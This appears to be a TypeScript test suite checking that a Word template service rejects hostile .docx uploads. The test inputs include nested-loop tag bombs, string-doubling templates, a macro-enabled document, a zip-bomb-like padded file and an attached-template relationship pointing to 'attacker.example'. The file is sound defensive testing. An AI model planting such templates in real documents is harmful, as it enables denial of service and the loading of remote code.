/**
 * Hostile Word templates through the pool's entry points: each answers with a problem (a 422 for
 * the API) or a budget error, never a stall — tag bombs, deeply nested loops, 10,000 tags,
 * macros, links to outside files, files that are not .docx.
 */
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { sampleDocument } from '../docx/test-support/sample-documents.js';
import { DomainValidationError } from '../kernel/errors.js';
import { renderContext } from '../word-template/test-support/customer-templates.js';
import { buildDocx, paragraph } from '../word-template/test-support/ooxml-builder.js';
import type { WordNameCatalog, WordProblemCode } from '../word-template/word-template-types.js';
import { TenantCodeBudgetError } from './budgets.js';
import { fillWordTemplate, inspectWordTemplate } from './word-templates.js';

const CATALOG: WordNameCatalog = { fields: ['x'], computed: [], gathered: [], entities: [], library: [], sections: [] };
const FINALIZED = sampleDocument({ lifecycleState: 'finalized', blocks: [], sources: [] });
const fill = (docx: Uint8Array) => fillWordTemplate(docx, { context: renderContext({ x: 'y' }), sections: [], composed: FINALIZED });
/** The codes of a template's problems, each once. */
const codes = async (docx: Uint8Array): Promise<WordProblemCode[]> => [
  ...new Set((await inspectWordTemplate(docx, CATALOG)).problems.map((problem) => problem.code)),
];
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

describe('hostile Word templates', () => {
  it('a tag bomb (loops multiplying past the step budget) fails its fill with the budget error', async () => {
    const docx = await buildDocx({ body: paragraph('{% for a in range(10000) %}{% for b in range(10000) %}{{ a }}{% endfor %}{% endfor %}') });
    expect((await inspectWordTemplate(docx, CATALOG)).valid).toBe(true);
    const error = await fill(docx).catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(TenantCodeBudgetError);
    expect(error).toMatchObject({ budget: 'step' });
  });

  it('output past the output budget, or a string doubled past the string budget, fails its fill with the budget error', async () => {
    const flood = await buildDocx({ body: paragraph('{% for i in range(10000) %}{{ x }}{% endfor %}') });
    const doubling = await buildDocx({
      body: paragraph('{% set s = namespace(t="x") %}{% for i in range(40) %}{% set s.t = s.t ~ s.t %}{% endfor %}{{ s.t }}'),
    });
    const context = renderContext({ x: 'x'.repeat(1000) });
    await expect(fillWordTemplate(flood, { context, sections: [], composed: FINALIZED })).rejects.toMatchObject({ budget: 'output' });
    await expect(fill(doubling)).rejects.toMatchObject({ budget: 'string' });
  });

  it('loops nested deeper than the nesting budget are a problem of the template, and its fill is refused', async () => {
    const depth = 150;
    const opens = Array.from({ length: depth }, (_, i) => paragraph(`{%p for v${i} in [1] %}`)).join('');
    const closes = paragraph('{%p endfor %}').repeat(depth);
    const docx = await buildDocx({ body: opens + paragraph('deep') + closes });
    expect(await codes(docx)).toEqual(['nesting']);
    await expect(fill(docx)).rejects.toThrow(/nested more than 100 deep/);
  });

  it('10,000 tags are refused as too many, in one paragraph or in 10,000', async () => {
    // Each tag different, as in a real file (10,000 identical paragraphs compress like a zip bomb).
    const tags = Array.from({ length: 10_000 }, (_, i) => `{{ v${(i * 7919) % 10007} }} ${(i * 104729) % 99991}`);
    const many = await buildDocx({ body: tags.map((tag) => paragraph(tag)).join('') });
    const packed = await buildDocx({ body: paragraph(tags.join(' ')) });
    expect(await codes(many)).toEqual(['too-many-tags']);
    expect(await codes(packed)).toEqual(['too-many-tags']);
    await expect(fill(many)).rejects.toThrow(/tag budget/);
  });

  it('macros are refused (a VBA project, a macro-enabled document)', async () => {
    const docm = await buildDocx({
      body: paragraph('{{ x }}'),
      mainContentType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
      extraEntries: { 'word/vbaProject.bin': Buffer.from('not really VBA') },
    });
    expect(await codes(docm)).toEqual(['macros']);
    await expect(fill(docm)).rejects.toBeInstanceOf(DomainValidationError);
  });

  it('links to outside files are refused (an attached template, a linked image); an external hyperlink is fine', async () => {
    const docx = await buildDocx({
      body: paragraph('{{ x }}'),
      extraRelationships:
        `<Relationship Id="rId9" Type="${REL}/image" Target="file:///C:/logos/secret.png" TargetMode="External"/>` +
        `<Relationship Id="rId10" Type="${REL}/hyperlink" Target="https://example.com" TargetMode="External"/>`,
      extraEntries: {
        'word/_rels/settings.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>`,
      },
    });
    const report = await inspectWordTemplate(docx, CATALOG);
    expect(report.problems.map((problem) => problem.code)).toEqual(['external-relationship', 'external-relationship']);
    expect(report.problems.map((problem) => problem.message).join('\n')).toMatch(
      /image: file:\/\/\/C:\/logos\/secret.png[\s\S]*attachedTemplate: http:\/\/attacker/,
    );
  });

  it('a file that is not a .docx — text, a zip without a document, a zip bomb — is refused as not-a-docx', async () => {
    const text = new TextEncoder().encode('{{ x }} plain text');
    const emptyZip = await new JSZip().file('a.txt', 'hello').generateAsync({ type: 'uint8array', compression: 'DEFLATE' });
    const bomb = await buildDocx({ body: paragraph('x'), extraEntries: { 'word/padding.xml': ' '.repeat(30 * 1024 * 1024) } });
    expect(await codes(text)).toEqual(['not-a-docx']);
    expect(await codes(emptyZip)).toEqual(['not-a-docx']);
    expect(await codes(bomb)).toEqual(['not-a-docx']);
    await expect(fill(text)).rejects.toThrow(/not a usable \.docx/);
  });

  it('fills the same template twice to the same bytes', async () => {
    const docx = await buildDocx({ body: paragraph('Dear {{ x }}') });
    const [first, second] = [await fill(docx), await fill(docx)];
    expect(second.equals(first)).toBe(true);
  });
});
